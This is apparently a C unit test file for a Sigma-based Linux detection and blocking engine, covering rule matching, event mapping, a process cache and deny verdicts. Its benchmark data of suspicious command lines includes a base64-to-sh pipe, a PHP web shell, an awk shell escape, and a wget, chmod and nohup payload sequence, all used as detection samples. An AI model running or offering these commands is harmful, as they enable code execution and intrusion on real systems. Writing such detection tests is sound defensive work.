/*
 * test_engine.c - the rule engine and rf-detect's decisions: glob, CIDR,
 * null and regex semantics (regexes bounded by match limits), per-event
 * memoisation, the mapping of rf_message to fields (AUTH and NOTIFY exec
 * alike, rename, connect/accept, IPv4-mapped peers), the process cache that
 * supplies parents' command lines, the AUTH verdict in enforce and monitor
 * mode, the AUTH/NOTIFY and file-event de-duplication; and it prints the
 * cost per exec event with the whole ../shared/sigma corpus loaded (a
 * figure, not an assertion: bench/detect-bench.c is the benchmark).
 */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <netinet/in.h>
#include <dirent.h>
#include <time.h>

#include <cmocka.h>

#include "clients/rf-detect/detect.h"
#include "clients/rf-detect/proccache.h"
#include "common/msgbuild.h"
#include "content/bundle_write.h"
#include "content/engine.h"
#include "content/sigma.h"
#include "content/view.h"

static char err[256];

/* ---- engine built from single predicates ---- */

static struct rfe_engine *one_pred(struct rfb_pred_in p, uint32_t events, const char *regex)
{
	struct rfb_builder *b = rfb_builder_new(rfs_engine_schema, RFS_NFIELDS, "t");
	if (regex)
		p.regex = (uint32_t)rfb_add_regex(b, regex, 0);
	int i = rfb_add_pred(b, &p);
	assert_true(i >= 0);
	uint32_t prog[] = { RFB_INSN(RFB_I_PRED, i), RFB_INSN(RFB_I_END, 0) };
	struct rfb_rule_in r = { .id = "r", .title = "t", .event_mask = events, .prog = prog, .prog_len = 2 };
	assert_int_equal(rfb_add_rule(b, &r), 0);
	uint8_t *buf;
	size_t len;
	assert_int_equal(rfb_build(b, &buf, &len), 0);
	struct rfe_engine *e;
	if (rfe_load(buf, len, rfs_engine_schema, RFS_NFIELDS, &e, err, sizeof err))
		fail_msg("%s", err);
	free(buf);
	rfb_builder_free(b);
	return e;
}

static bool matches_str(struct rfe_engine *e, unsigned field, const char *s)
{
	struct rfe_event ev;
	memset(&ev, 0, sizeof ev);
	ev.type = RF_EVENT_EXEC;
	if (s)
		ev.v[field] = (struct rfe_value){ .s = s, .len = (uint32_t)strlen(s), .present = 1 };
	uint32_t m[1];
	return rfe_eval(e, &ev, m, 1) == 1;
}

static bool glob(const char *pattern, const char *s, bool nocase)
{
	struct rfe_engine *e = one_pred((struct rfb_pred_in){ .field = RFF_IMAGE, .op = RFB_OP_GLOB,
							      .flags = nocase ? RFB_PF_NOCASE : 0, .str = pattern,
							      .str_len = (uint32_t)strlen(pattern) },
					1u << RF_EVENT_EXEC, NULL);
	bool r = matches_str(e, RFF_IMAGE, s);
	rfe_free(e);
	return r;
}

static void test_glob(void **state)
{
	(void)state;
	assert_true(glob("*", "", false));
	assert_true(glob("*", "anything", false));
	assert_true(glob("a*", "abc", false));
	assert_false(glob("a*", "bac", false));
	assert_true(glob("*c", "abc", false));
	assert_true(glob("a?c", "abc", false));
	assert_false(glob("a?c", "ac", false));
	assert_true(glob("**a**", "xxaxx", false));
	assert_true(glob("*a*b*c*", "xaxxbxxxcx", false));
	assert_false(glob("*a*b*c*", "xaxxcxxxbx", false));
	assert_true(glob("\\*x", "*x", false));
	assert_false(glob("\\*x", "ax", false));
	assert_true(glob("a\\?", "a?", false));
	assert_false(glob("a\\?", "ab", false));
	assert_true(glob("/USR/*", "/usr/bin", true));     /* patterns are lowered at load */
	assert_false(glob("/USR/*", "/usr/bin", false));
	assert_false(glob("abc", "ab", false));
	assert_false(glob("", "a", false));
	assert_true(glob("", "", false));
}

static void test_null_int_cidr(void **state)
{
	(void)state;
	struct rfe_engine *e = one_pred((struct rfb_pred_in){ .field = RFF_UID, .op = RFB_OP_NULL },
					1u << RF_EVENT_EXEC, NULL);
	struct rfe_event ev;
	memset(&ev, 0, sizeof ev);
	ev.type = RF_EVENT_EXEC;
	uint32_t m[1];
	assert_int_equal(rfe_eval(e, &ev, m, 1), 1);        /* absent int: null */
	ev.v[RFF_UID] = (struct rfe_value){ .num = 0, .present = 1 };
	assert_int_equal(rfe_eval(e, &ev, m, 1), 0);        /* present int, even 0: not null */
	rfe_free(e);

	e = one_pred((struct rfb_pred_in){ .field = RFF_NET_SRC_IP, .op = RFB_OP_CIDR, .family = 6, .prefix = 10,
					   .addr = { 0xfe, 0xbf } },   /* host bits are cleared at load */
		     1u << RF_EVENT_ACCEPT, NULL);
	memset(&ev, 0, sizeof ev);
	ev.type = RF_EVENT_ACCEPT;
	ev.v[RFF_NET_SRC_IP] = (struct rfe_value){ .family = 6, .ip = { 0xfe, 0x80, 0, 1 }, .present = 1 };
	assert_int_equal(rfe_eval(e, &ev, m, 1), 1);
	ev.v[RFF_NET_SRC_IP].ip[1] = 0xc0;
	assert_int_equal(rfe_eval(e, &ev, m, 1), 0);
	ev.v[RFF_NET_SRC_IP] = (struct rfe_value){ .family = 4, .ip = { 0xfe, 0x80 }, .present = 1 };
	assert_int_equal(rfe_eval(e, &ev, m, 1), 0);        /* another family never matches */
	rfe_free(e);
}

static void test_memo_is_per_event(void **state)
{
	(void)state;
	struct rfe_engine *e = one_pred((struct rfb_pred_in){ .field = RFF_COMMAND_LINE, .op = RFB_OP_CONTAINS,
							      .flags = RFB_PF_NOCASE, .str = "evil", .str_len = 4 },
					1u << RF_EVENT_EXEC, NULL);
	for (int i = 0; i < 1000; i++) {
		assert_true(matches_str(e, RFF_COMMAND_LINE, "an EVIL one"));
		assert_false(matches_str(e, RFF_COMMAND_LINE, "a good one"));
		assert_false(matches_str(e, RFF_COMMAND_LINE, NULL));
	}
	struct rfe_stats st;
	rfe_get_stats(e, &st);
	assert_int_equal(st.events, 3000);
	assert_int_equal(st.matches, 1000);
	rfe_free(e);
}

static void test_regex_bounded(void **state)
{
	(void)state;
	/* catastrophic backtracking meets the match limit, not the CPU */
	struct rfe_engine *e = one_pred((struct rfb_pred_in){ .field = RFF_COMMAND_LINE, .op = RFB_OP_RE },
					1u << RF_EVENT_EXEC, "^(\\w+\\s?)*$");
	char s[4096];
	memset(s, 'a', sizeof s - 2);
	s[sizeof s - 2] = '!';
	s[sizeof s - 1] = 0;
	struct timespec t0, t1;
	clock_gettime(CLOCK_MONOTONIC, &t0);
	assert_false(matches_str(e, RFF_COMMAND_LINE, s));
	clock_gettime(CLOCK_MONOTONIC, &t1);
	double ms = (t1.tv_sec - t0.tv_sec) * 1e3 + (t1.tv_nsec - t0.tv_nsec) / 1e6;
	struct rfe_stats st;
	rfe_get_stats(e, &st);
	printf("pathological regex: %.2f ms, %llu limit hits\n", ms, (unsigned long long)st.re_errors);
	assert_true(st.re_errors == 1);
	assert_true(ms < 1000);
	assert_true(matches_str(e, RFF_COMMAND_LINE, "just words here"));
	rfe_free(e);
}

/* ---- messages ---- */

static struct rf_msgb mb;

static void msg_begin(uint16_t type, uint8_t action, uint32_t pid, const char *exe, const char *args,
		      size_t args_len)
{
	rf_msgb_init(&mb, type, action);
	struct rf_message *m = &mb.u.msg;
	m->hdr.mono_ns = 1000000000ull;
	m->process.pid = pid;
	m->process.ppid = 100;
	m->process.start_time_ns = 7;
	m->process.uid = 1000;
	m->process.exe.path = rf_msgb_str(&mb, exe);
	m->process.args = rf_msgb_add(&mb, args, args_len);
	m->process.argc = 3;
	m->process.cwd = rf_msgb_str(&mb, "/home/u");
	m->parent.pid = 100;
	m->parent.start_time_ns = 5;
	m->parent.exe = rf_msgb_str(&mb, "/usr/bin/bash");
}

#define ARGS(s) s, sizeof(s) - 1

static const char *val(const struct rfe_event *ev, unsigned f)
{
	static char buf[1024];
	if (!ev->v[f].present)
		return "(absent)";
	snprintf(buf, sizeof buf, "%.*s", (int)ev->v[f].len, ev->v[f].s);
	return buf;
}

static void test_view(void **state)
{
	(void)state;
	static struct rfe_msg_view v;
	/* NOTIFY exec: the process already is the new image */
	msg_begin(RF_EVENT_EXEC, RF_ACTION_NOTIFY, 200, "/usr/bin/curl", ARGS("curl\0-F\0x"));
	struct rf_message *m = &mb.u.msg;
	m->ev.exec.target.path = m->process.exe.path;
	m->ev.exec.args = m->process.args;
	rf_msgb_finish(&mb);
	rfe_view_from_msg(&v, m, NULL, 0);
	assert_string_equal(val(&v.ev, RFF_IMAGE), "/usr/bin/curl");
	assert_string_equal(val(&v.ev, RFF_COMMAND_LINE), "curl -F x");
	assert_string_equal(val(&v.ev, RFF_PARENT_IMAGE), "/usr/bin/bash");
	assert_string_equal(val(&v.ev, RFF_PARENT_COMMAND_LINE), "(absent)");
	assert_string_equal(val(&v.ev, RFF_CWD), "/home/u");
	assert_int_equal(v.ev.v[RFF_PID].num, 200);
	assert_int_equal(v.ev.v[RFF_PPID].num, 100);
	assert_int_equal(v.ev.v[RFF_UID].num, 1000);
	assert_false(v.ev.v[RFF_TARGET_PATH].present);

	/* AUTH exec: the process is still the caller; the new image is in ev.exec */
	msg_begin(RF_EVENT_EXEC, RF_ACTION_AUTH, 200, "/usr/bin/bash", ARGS("bash\0-i"));
	m->ev.exec.target.path = rf_msgb_str(&mb, "/usr/bin/curl");
	m->ev.exec.args = rf_msgb_add(&mb, ARGS("curl\0-F\0x"));
	rf_msgb_finish(&mb);
	rfe_view_from_msg(&v, m, "bash -i", 7);
	assert_string_equal(val(&v.ev, RFF_IMAGE), "/usr/bin/curl");
	assert_string_equal(val(&v.ev, RFF_COMMAND_LINE), "curl -F x");
	assert_string_equal(val(&v.ev, RFF_PARENT_COMMAND_LINE), "bash -i");
	/* AUTH exec without the argv (no eBPF sensor): the command line is absent */
	msg_begin(RF_EVENT_EXEC, RF_ACTION_AUTH, 200, "/usr/bin/bash", ARGS("bash"));
	m->ev.exec.target.path = rf_msgb_str(&mb, "/usr/bin/curl");
	rf_msgb_finish(&mb);
	rfe_view_from_msg(&v, m, NULL, 0);
	assert_string_equal(val(&v.ev, RFF_COMMAND_LINE), "(absent)");

	/* rename: Sigma's TargetFilename is the new name */
	msg_begin(RF_EVENT_RENAME, RF_ACTION_NOTIFY, 300, "/usr/bin/mv", ARGS("mv\0a\0b"));
	m->ev.file.target.path = rf_msgb_str(&mb, "/tmp/a");
	m->ev.file.dest = rf_msgb_str(&mb, "/etc/cron.d/b");
	rf_msgb_finish(&mb);
	rfe_view_from_msg(&v, m, NULL, 0);
	assert_string_equal(val(&v.ev, RFF_TARGET_PATH), "/etc/cron.d/b");
	assert_string_equal(val(&v.ev, RFF_SOURCE_PATH), "/tmp/a");
	assert_string_equal(val(&v.ev, RFF_IMAGE), "/usr/bin/mv");
	assert_string_equal(val(&v.ev, RFF_COMMAND_LINE), "mv a b");

	/* connect to an IPv4-mapped IPv6 peer: an IPv4 address */
	msg_begin(RF_EVENT_CONNECT, RF_ACTION_NOTIFY, 400, "/usr/bin/bash", ARGS("bash"));
	m->ev.net.family = AF_INET6;
	m->ev.net.proto = IPPROTO_TCP;
	m->ev.net.dport = 4444;
	uint8_t mapped[16] = { 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xff, 198, 51, 100, 7 };
	memcpy(m->ev.net.daddr, mapped, 16);
	rf_msgb_finish(&mb);
	rfe_view_from_msg(&v, m, NULL, 0);
	assert_int_equal(v.ev.v[RFF_NET_DST_IP].family, 4);
	assert_memory_equal(v.ev.v[RFF_NET_DST_IP].ip, ((uint8_t[]){ 198, 51, 100, 7 }), 4);
	assert_int_equal(v.ev.v[RFF_NET_DST_PORT].num, 4444);
	assert_int_equal(v.ev.v[RFF_NET_INITIATED].num, 1);
	assert_string_equal(val(&v.ev, RFF_NET_PROTOCOL), "tcp");
	m->hdr.type = RF_EVENT_ACCEPT;
	m->ev.net.family = AF_INET;
	rfe_view_from_msg(&v, m, NULL, 0);
	assert_int_equal(v.ev.v[RFF_NET_INITIATED].num, 0);
	assert_int_equal(v.ev.v[RFF_NET_DST_IP].family, 4);
	m->ev.net.family = 99;
	rfe_view_from_msg(&v, m, NULL, 0);
	assert_false(v.ev.v[RFF_NET_DST_IP].present);
}

/* ---- the process cache ---- */

static void test_proccache(void **state)
{
	(void)state;
	struct pcache *pc = pc_new();
	size_t n;
	pc_set(pc, 10, 1, "bash -i", 7);
	assert_string_equal(pc_get(pc, 10, 1, &n), "bash -i");
	assert_string_equal(pc_get(pc, 10, 0, &n), "bash -i");   /* start unknown: any */
	assert_null(pc_get(pc, 10, 2, &n));                        /* another process of that pid */
	pc_set(pc, 10, 2, "sshd", 4);                              /* the pid was reused */
	assert_string_equal(pc_get(pc, 10, 2, &n), "sshd");
	assert_null(pc_get(pc, 10, 1, &n));
	pc_forget(pc, 10);
	assert_null(pc_get(pc, 10, 0, &n));
	assert_int_equal(pc_count(pc), 0);
	/* long command lines are cut */
	char *big = malloc(PC_CMD_MAX + 100);
	memset(big, 'x', PC_CMD_MAX + 100);
	pc_set(pc, 11, 1, big, PC_CMD_MAX + 100);
	assert_non_null(pc_get(pc, 11, 1, &n));
	assert_int_equal(n, PC_CMD_MAX);
	free(big);
	/* a full neighbourhood evicts its least recently updated entry */
	uint32_t same[PC_PROBE + 1];
	unsigned k = 0;
	uint32_t home11 = (11u * 2654435761u) & (PC_SLOTS - 1);
	for (uint32_t pid = 12; k < PC_PROBE; pid++)
		if (((pid * 2654435761u) & (PC_SLOTS - 1)) == home11)
			same[k++] = pid;
	for (unsigned i = 0; i < PC_PROBE; i++)
		pc_set(pc, same[i], 1, "y", 1);
	assert_null(pc_get(pc, 11, 1, &n));                        /* 11 was the oldest */
	for (unsigned i = 0; i < PC_PROBE; i++)
		assert_non_null(pc_get(pc, same[i], 1, &n));
	assert_true(pc_count(pc) <= PC_PROBE);
	pc_free(pc);
	pc_free(NULL);
}

/* ---- the detector ---- */

static struct detector *detector_for(const char *yaml, bool enforce, const char *block)
{
	struct rfb_builder *b = rfb_builder_new(rfs_engine_schema, RFS_NFIELDS, "t");
	const char *ids[] = { block };
	struct sg_options o = { .block_ids = ids, .nblock = block ? 1 : 0 };
	struct sg_compiler *c = sg_new(b, &o);
	const char *doc = yaml;
	/* several rules separated by "\n===\n" */
	while (doc && *doc) {
		const char *end = strstr(doc, "\n===\n");
		size_t n = end ? (size_t)(end - doc) : strlen(doc);
		if (sg_add_text(c, "r.yml", doc, n) != 0)
			fail_msg("%s", sg_result(c, sg_nresults(c) - 1)->reason);
		doc = end ? end + 5 : NULL;
	}
	uint8_t *buf;
	size_t len;
	assert_int_equal(rfb_build(b, &buf, &len), 0);
	struct rfe_engine *e;
	if (rfe_load(buf, len, rfs_engine_schema, RFS_NFIELDS, &e, err, sizeof err))
		fail_msg("%s", err);
	free(buf);
	sg_free(c);
	rfb_builder_free(b);
	struct detector *d = det_new(e, enforce);
	assert_non_null(d);
	return d;
}

#define RULE(id, cat, det) \
	"title: " id "\nid: " id "\nlogsource: {product: linux, category: " cat "}\ndetection:\n" det

static const char *RULES =
	RULE("crontab-r", "process_creation", "  sel:\n    Image|endswith: '/crontab'\n    CommandLine|contains: ' -r'\n  condition: sel\n")
	"\n===\n"
	RULE("any-tmp", "process_creation", "  sel:\n    Image|startswith: '/tmp/'\n  condition: sel\n")
	"\n===\n"
	RULE("cron-file", "file_event", "  sel:\n    TargetFilename|startswith: '/etc/cron.d/'\n  condition: sel\n")
	"\n===\n"
	RULE("interactive", "process_creation", "  sel:\n    ParentCommandLine: 'bash -i'\n    Image|endswith: '/whoami'\n  condition: sel\n");

static void exec_msg(uint8_t action, uint32_t pid, const char *image, const char *args, size_t alen, uint64_t t)
{
	msg_begin(RF_EVENT_EXEC, action, pid, action == RF_ACTION_AUTH ? "/usr/bin/bash" : image, args, alen);
	struct rf_message *m = &mb.u.msg;
	m->hdr.mono_ns = t;
	m->ev.exec.target.path = rf_msgb_str(&mb, image);
	m->ev.exec.args = rf_msgb_add(&mb, args, alen);
	rf_msgb_finish(&mb);
}

static bool alerted(const struct detector *d, const struct det_result *r, const char *id)
{
	for (unsigned i = 0; i < r->nalerts; i++) {
		struct rfe_rule_info ri;
		rfe_rule(d->e, r->alerts[i], &ri);
		if (!strcmp(ri.id, id))
			return true;
	}
	return false;
}

static void test_detector_verdicts(void **state)
{
	(void)state;
	struct detector *d = detector_for(RULES, true, "crontab-r");
	struct det_result r;
	assert_true(det_wants_auth_exec(d));
	/* a blocking rule: denied, and reported */
	exec_msg(RF_ACTION_AUTH, 500, "/tmp/x/crontab", ARGS("crontab\0-r"), 1000);
	det_handle(d, &mb.u.msg, &r);
	assert_true(r.deny);
	assert_true(alerted(d, &r, "crontab-r"));
	assert_true(alerted(d, &r, "any-tmp"));
	/* only non-blocking rules: allowed, reported */
	exec_msg(RF_ACTION_AUTH, 501, "/tmp/x/crontab", ARGS("crontab\0-l"), 2000);
	det_handle(d, &mb.u.msg, &r);
	assert_false(r.deny);
	assert_int_equal(r.nalerts, 1);
	assert_true(alerted(d, &r, "any-tmp"));
	/* its NOTIFY exec follows: not evaluated (and not reported) again */
	exec_msg(RF_ACTION_NOTIFY, 501, "/tmp/x/crontab", ARGS("crontab\0-l"), 3000);
	det_handle(d, &mb.u.msg, &r);
	assert_int_equal(r.nalerts, 0);
	assert_int_equal(d->stats.dedup_exec, 1);
	/* ... unless the AUTH had no argv (the NOTIFY then knows more) */
	msg_begin(RF_EVENT_EXEC, RF_ACTION_AUTH, 502, "/usr/bin/bash", ARGS("bash"));
	mb.u.msg.ev.exec.target.path = rf_msgb_str(&mb, "/usr/bin/crontab");
	rf_msgb_finish(&mb);
	det_handle(d, &mb.u.msg, &r);
	assert_false(r.deny);
	exec_msg(RF_ACTION_NOTIFY, 502, "/usr/bin/crontab", ARGS("crontab\0-r"), 4000);
	det_handle(d, &mb.u.msg, &r);
	assert_true(alerted(d, &r, "crontab-r"));
	assert_false(r.deny);   /* a NOTIFY has no verdict */
	assert_int_equal(d->stats.denied, 1);
	det_free(d);

	/* monitor mode: the same rule never denies, and AUTH is not asked for */
	d = detector_for(RULES, false, "crontab-r");
	assert_false(det_wants_auth_exec(d));
	exec_msg(RF_ACTION_AUTH, 500, "/tmp/x/crontab", ARGS("crontab\0-r"), 1000);
	det_handle(d, &mb.u.msg, &r);
	assert_false(r.deny);
	assert_true(alerted(d, &r, "crontab-r"));
	det_free(d);
}

/* A cut argv or an unknown target: judged by what is there, or denied, as the policy says. */
static void test_detector_unknown_target(void **state)
{
	(void)state;
	struct det_result r;
	for (int deny = 0; deny < 2; deny++) {
		struct detector *d = detector_for(RULES, true, "crontab-r");
		d->unknown_target = deny ? DET_UNKNOWN_DENY : DET_UNKNOWN_DEFAULT;
		struct rf_message *m = &mb.u.msg;

		/* whole and not matching: allowed under either policy */
		exec_msg(RF_ACTION_AUTH, 510, "/usr/bin/crontab", ARGS("crontab\0-l"), 1000);
		det_handle(d, m, &r);
		assert_false(r.deny);
		assert_int_equal(det_unknown_fields(m), 0);

		/* the blocking rule reads CommandLine, and it was cut before " -r" */
		exec_msg(RF_ACTION_AUTH, 511, "/usr/bin/crontab", ARGS("crontab"), 2000);
		m->ev.exec.argc = 2;
		m->ev.exec.flags |= RF_EXEC_F_ARGS_CUT;
		m->hdr.cut |= RF_CUT_ARGS;
		m->hdr.flags |= RF_MSG_F_CUT;
		assert_true(det_unknown_fields(m) & (1ull << RFF_COMMAND_LINE));
		det_handle(d, m, &r);
		assert_int_equal(r.deny, deny);

		/* a cut field no blocking rule reads changes nothing */
		exec_msg(RF_ACTION_AUTH, 512, "/usr/bin/crontab", ARGS("crontab\0-l"), 3000);
		m->process.flags |= RF_PROC_F_CWD_CUT;
		m->hdr.cut |= RF_CUT_CWD;
		m->hdr.flags |= RF_MSG_F_CUT;
		det_handle(d, m, &r);
		assert_false(r.deny);

		/* the target path unknown: denied only by policy */
		exec_msg(RF_ACTION_AUTH, 513, "/usr/bin/crontab", ARGS("crontab\0-l"), 4000);
		m->ev.exec.target.path = (rf_str_t){ 0, 0 };
		m->ev.exec.target.flags |= RF_FILE_F_PATH_UNKNOWN;
		det_handle(d, m, &r);
		assert_int_equal(r.deny, deny);
		assert_int_equal(d->stats.unknown, 2);
		assert_int_equal(d->stats.unknown_denied, deny ? 2 : 0);

		/* a match on what is there still denies under either policy */
		exec_msg(RF_ACTION_AUTH, 514, "/usr/bin/crontab", ARGS("crontab\0-r"), 5000);
		m->ev.exec.flags |= RF_EXEC_F_ARGS_CUT;
		m->hdr.cut |= RF_CUT_ARGS;
		m->hdr.flags |= RF_MSG_F_CUT;
		det_handle(d, m, &r);
		assert_true(r.deny);
		det_free(d);
	}
}

static void test_detector_files_and_parents(void **state)
{
	(void)state;
	struct detector *d = detector_for(RULES, false, NULL);
	uint32_t types = det_notify_types(d);
	assert_true(types & (1u << RF_EVENT_FORK));
	assert_true(types & (1u << RF_EVENT_EXIT));
	assert_true(types & (1u << RF_EVENT_CLOSE_WRITE));
	assert_false(types & (1u << RF_EVENT_CONNECT));
	struct det_result r;
	/* created, then written and closed: one finding */
	for (int i = 0; i < 2; i++) {
		msg_begin(i ? RF_EVENT_CLOSE_WRITE : RF_EVENT_CREATE, RF_ACTION_NOTIFY, 600, "/usr/bin/cp",
			  ARGS("cp\0a\0b"));
		mb.u.msg.hdr.mono_ns = 1000000000ull + (uint64_t)i * 1000;
		mb.u.msg.ev.file.target.path = rf_msgb_str(&mb, "/etc/cron.d/job");
		rf_msgb_finish(&mb);
		det_handle(d, &mb.u.msg, &r);
		assert_int_equal(r.nalerts, i ? 0 : 1);
	}
	assert_int_equal(d->stats.repeats, 1);
	/* later, again: a new finding */
	mb.u.msg.hdr.mono_ns += DET_REPEAT_NS + 1;
	det_handle(d, &mb.u.msg, &r);
	assert_int_equal(r.nalerts, 1);

	/* parent's command line: learnt from the fork of `bash -i` */
	msg_begin(RF_EVENT_FORK, RF_ACTION_NOTIFY, 100, "/usr/bin/bash", ARGS("bash\0-i"));
	mb.u.msg.process.start_time_ns = 5;
	mb.u.msg.ev.fork.child_pid = 700;
	mb.u.msg.ev.fork.child_start_time_ns = 9;
	rf_msgb_finish(&mb);
	det_handle(d, &mb.u.msg, &r);
	exec_msg(RF_ACTION_NOTIFY, 700, "/usr/bin/whoami", ARGS("whoami"), 5000);
	det_handle(d, &mb.u.msg, &r);
	assert_true(alerted(d, &r, "interactive"));
	/* the parent exits: its command line is forgotten */
	msg_begin(RF_EVENT_EXIT, RF_ACTION_NOTIFY, 100, "/usr/bin/bash", ARGS("bash\0-i"));
	rf_msgb_finish(&mb);
	det_handle(d, &mb.u.msg, &r);
	exec_msg(RF_ACTION_NOTIFY, 701, "/usr/bin/whoami", ARGS("whoami"), 6000);
	det_handle(d, &mb.u.msg, &r);
	assert_int_equal(r.nalerts, 0);
	det_free(d);
}

/* ---- cost per exec with the corpus ---- */

/* a mix of ordinary and suspicious command lines; argv entries NUL separated */
#define E(img, args) { img, args, sizeof(args) - 1 }
static const struct {
	const char *image, *args;
	size_t len;
} execs[] = {
	E("/usr/bin/ls", "ls\0-la\0/home/user"),
	E("/usr/bin/python3.11", "/usr/bin/python3\0-m\0pip\0install\0requests"),
	E("/usr/bin/git", "git\0status"),
	E("/usr/bin/bash", "bash\0-c\0echo ZWNobyBoaQo= | base64 -d | sh"),
	E("/usr/bin/curl", "curl\0-fsSL\0https://example.org/install.sh"),
	E("/usr/bin/grep", "grep\0-r\0TODO\0src/"),
	E("/usr/sbin/sshd", "/usr/sbin/sshd\0-D"),
	E("/usr/bin/find", "find\0.\0-name\0*.c\0-exec\0/bin/sh\0-c\0wc {}\0;"),
	E("/usr/bin/systemctl", "systemctl\0status\0nginx"),
	E("/usr/bin/tar", "tar\0-czf\0/tmp/backup.tgz\0/etc"),
	E("/usr/bin/crontab", "crontab\0-r"),
	E("/usr/bin/dash", "sh\0-c\0cd /var/www && php -r 'system($_GET[1]);'"),
	E("/usr/bin/cat", "cat\0/etc/passwd"),
	E("/usr/bin/make", "make\0-j8"),
	E("/usr/bin/gcc", "gcc\0-O2\0-c\0main.c\0-o\0main.o"),
	E("/usr/bin/mawk", "awk\0BEGIN {system(\"/bin/sh\")}"),
	E("/usr/bin/wget", "wget\0-O\0/tmp/x\0http://x/y"),
	E("/usr/bin/chmod", "chmod\0+x\0/tmp/payload"),
	E("/usr/bin/nohup", "nohup\0/tmp/payload"),
	E("/usr/bin/id", "id"),
};
#undef E

static void test_cost_per_exec(void **state)
{
	(void)state;
	const char *root = getenv("RF_ROOT");
	char dir[4096];
	if (getenv("RF_SIGMA_DIR"))
		snprintf(dir, sizeof dir, "%s", getenv("RF_SIGMA_DIR"));
	else
		snprintf(dir, sizeof dir, "%s/../shared/sigma", root ? root : ".");
	struct stat st;
	if (stat(dir, &st) != 0) {
		printf("skip: no Sigma corpus at %s\n", dir);
		skip();
	}
	/* compile the corpus: the directories it has, in order */
	struct rfb_builder *b = rfb_builder_new(rfs_engine_schema, RFS_NFIELDS, "bench");
	struct sg_compiler *c = sg_new(b, NULL);
	const char *subs[] = { "rules/linux/process_creation", "rules/linux/file_event",
			       "rules/linux/network_connection", "rules-threat-hunting/linux/process_creation",
			       "rules-threat-hunting/linux/file/file_event" };
	for (size_t s = 0; s < sizeof subs / sizeof *subs; s++) {
		char p[4400];
		snprintf(p, sizeof p, "%s/%s", dir, subs[s]);
		struct dirent **ents;
		int n = scandir(p, &ents, NULL, alphasort);
		for (int i = 0; i < n; i++) {
			char f[8600];
			snprintf(f, sizeof f, "%s/%s", p, ents[i]->d_name);
			if (strstr(ents[i]->d_name, ".yml"))
				assert_true(sg_add_file(c, f) >= 0);
			free(ents[i]);
		}
		if (n >= 0)
			free(ents);
	}
	uint8_t *buf;
	size_t len;
	assert_int_equal(rfb_build(b, &buf, &len), 0);
	struct rfe_engine *e;
	assert_int_equal(rfe_load(buf, len, rfs_engine_schema, RFS_NFIELDS, &e, err, sizeof err), 0);
	size_t nrules = rfe_nrules(e);
	free(buf);
	sg_free(c);
	rfb_builder_free(b);
	struct detector *d = det_new(e, false);

	/* the messages, built once */
	enum { N = sizeof execs / sizeof *execs };
	static struct rf_msgb msgs[N];
	for (unsigned i = 0; i < N; i++) {
		struct rf_msgb *m = &msgs[i];
		rf_msgb_init(m, RF_EVENT_EXEC, RF_ACTION_NOTIFY);
		m->u.msg.process.pid = 1000 + i;
		m->u.msg.process.ppid = 900;
		m->u.msg.process.exe.path = rf_msgb_str(m, execs[i].image);
		m->u.msg.process.args = rf_msgb_add(m, execs[i].args, execs[i].len);
		m->u.msg.process.cwd = rf_msgb_str(m, "/home/user/project");
		m->u.msg.ev.exec.target.path = m->u.msg.process.exe.path;
		m->u.msg.ev.exec.args = m->u.msg.process.args;
		m->u.msg.parent.pid = 900;
		m->u.msg.parent.exe = rf_msgb_str(m, "/usr/bin/bash");
		rf_msgb_finish(m);
	}
	const unsigned rounds = 2000;
	struct det_result r;
	unsigned alerts = 0;
	struct timespec t0, t1;
	clock_gettime(CLOCK_MONOTONIC, &t0);
	for (unsigned k = 0; k < rounds; k++)
		for (unsigned i = 0; i < N; i++) {
			msgs[i].u.msg.hdr.mono_ns = (uint64_t)(k * N + i) * 1000000000ull;
			det_handle(d, &msgs[i].u.msg, &r);
			alerts += r.nalerts;
		}
	clock_gettime(CLOCK_MONOTONIC, &t1);
	double us = ((t1.tv_sec - t0.tv_sec) * 1e6 + (t1.tv_nsec - t0.tv_nsec) / 1e3) / (rounds * N);
	printf("cost per exec event: %.2f us (%zu rules loaded, %u events, %.1f alerts/event)\n", us, nrules,
	       rounds * N, (double)alerts / (rounds * N));
	assert_true(alerts > 0);
	det_free(d);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_glob),
		cmocka_unit_test(test_null_int_cidr),
		cmocka_unit_test(test_memo_is_per_event),
		cmocka_unit_test(test_regex_bounded),
		cmocka_unit_test(test_view),
		cmocka_unit_test(test_proccache),
		cmocka_unit_test(test_detector_verdicts),
		cmocka_unit_test(test_detector_unknown_target),
		cmocka_unit_test(test_detector_files_and_parents),
		cmocka_unit_test(test_cost_per_exec),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
